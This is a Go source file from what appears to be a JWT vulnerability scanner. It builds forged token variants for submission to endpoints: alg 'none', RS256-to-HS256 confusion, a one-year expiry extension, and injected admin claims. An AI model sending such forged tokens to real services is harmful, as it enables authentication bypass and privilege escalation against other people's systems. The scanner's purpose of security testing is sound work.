package jwt

import (
	"encoding/json"
	"fmt"
	"time"

	"github.com/tplscan/tplscan/pkg/finding"
)

// Placeholder signatures for forged tokens. Real signing would need
// the victim key; the forged tokens probe whether the server checks
// signatures at all.
const (
	signaturePlaceholder = "SIGNATURE_PLACEHOLDER"
	signatureModified    = "SIGNATURE_MODIFIED"
)

// AttackPayload is one forged token variant for submission against a
// token-consuming endpoint.
type AttackPayload struct {
	Name        string
	Token       string
	Description string
	Severity    finding.Severity
}

// GenerateAttackPayloads builds the forged variants applicable to
// this token. Variants needing a segment that failed to decode are
// skipped.
func (t *Token) GenerateAttackPayloads() []AttackPayload {
	var payloads []AttackPayload

	if forged, err := t.ForgeNoneAlgorithm(); err == nil {
		payloads = append(payloads, AttackPayload{
			Name:        "none-algorithm",
			Token:       forged,
			Description: "alg stripped to none with an empty signature",
			Severity:    finding.Critical,
		})
	}
	if forged, err := t.ForgeAlgorithmConfusion(); err == nil {
		payloads = append(payloads, AttackPayload{
			Name:        "algorithm-confusion",
			Token:       forged,
			Description: "alg switched to HS256 to probe RSA-to-HMAC confusion",
			Severity:    finding.Critical,
		})
	}
	if forged, err := t.ForgeExpirationBypass(); err == nil {
		payloads = append(payloads, AttackPayload{
			Name:        "expiration-bypass",
			Token:       forged,
			Description: "exp pushed one year out to probe missing signature checks",
			Severity:    finding.High,
		})
	}
	if forged, err := t.ForgePrivilegeEscalation(); err == nil {
		payloads = append(payloads, AttackPayload{
			Name:        "privilege-escalation",
			Token:       forged,
			Description: "admin role and permissions injected into the claims",
			Severity:    finding.Critical,
		})
	}
	return payloads
}

// ForgeNoneAlgorithm rewrites the header with alg none and drops the
// signature. The claims segment is reused byte for byte.
func (t *Token) ForgeNoneAlgorithm() (string, error) {
	if t.Header == nil {
		return "", fmt.Errorf("jwt: header not decodable")
	}
	h := *t.Header
	h.Alg = "none"
	headerJSON, err := json.Marshal(h)
	if err != nil {
		return "", err
	}
	parts := t.segments()
	return fmt.Sprintf("%s.%s.", base64URLEncode(headerJSON), parts[1]), nil
}

// ForgeAlgorithmConfusion rewrites the header with alg HS256, keeping
// the claims segment, with a placeholder signature.
func (t *Token) ForgeAlgorithmConfusion() (string, error) {
	if t.Header == nil {
		return "", fmt.Errorf("jwt: header not decodable")
	}
	h := *t.Header
	h.Alg = "HS256"
	headerJSON, err := json.Marshal(h)
	if err != nil {
		return "", err
	}
	parts := t.segments()
	return fmt.Sprintf("%s.%s.%s", base64URLEncode(headerJSON), parts[1], signaturePlaceholder), nil
}

// ForgeExpirationBypass rewrites the claims with exp one year from
// now, keeping the header segment.
func (t *Token) ForgeExpirationBypass() (string, error) {
	return t.forgeClaims(func(claims map[string]any) {
		claims["exp"] = time.Now().Unix() + 365*24*3600
	})
}

// ForgePrivilegeEscalation injects admin markers into the claims.
func (t *Token) ForgePrivilegeEscalation() (string, error) {
	return t.forgeClaims(func(claims map[string]any) {
		claims["role"] = "admin"
		claims["is_admin"] = true
		claims["permissions"] = []string{"admin", "superuser"}
	})
}

func (t *Token) forgeClaims(mutate func(map[string]any)) (string, error) {
	if t.Claims == nil {
		return "", fmt.Errorf("jwt: claims not decodable")
	}
	claims := make(map[string]any, len(t.Claims)+3)
	for k, v := range t.Claims {
		claims[k] = v
	}
	mutate(claims)
	claimsJSON, err := json.Marshal(claims)
	if err != nil {
		return "", err
	}
	parts := t.segments()
	return fmt.Sprintf("%s.%s.%s", parts[0], base64URLEncode(claimsJSON), signatureModified), nil
}
